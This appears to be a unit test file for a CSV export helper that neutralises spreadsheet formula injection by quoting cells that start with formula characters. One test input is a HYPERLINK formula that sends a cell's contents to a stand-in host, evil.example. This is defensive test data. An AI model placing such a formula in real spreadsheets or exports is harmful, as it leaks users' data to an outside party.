import { describe, expect, it } from 'vitest';
import { csvTextCell } from './csv-cells.ts';

describe('csvTextCell', () => {
  it('puts a single quote before text that a spreadsheet would read as a formula', () => {
    expect(csvTextCell('=HYPERLINK("http://evil.example/?x="&A1,"click")')).toBe(
      `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
    );
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      expect(csvTextCell(`${start}1+2`)).toBe(`'${start}1+2`);
    }
  });

  it('keeps any other text as it is, a formula character further in included', () => {
    for (const text of ['Ege Danışmanlık', 'A=B', '1-2', 'info@firma.com.tr', '', ' =1', "'quoted"]) {
      expect(csvTextCell(text)).toBe(text);
    }
  });
});
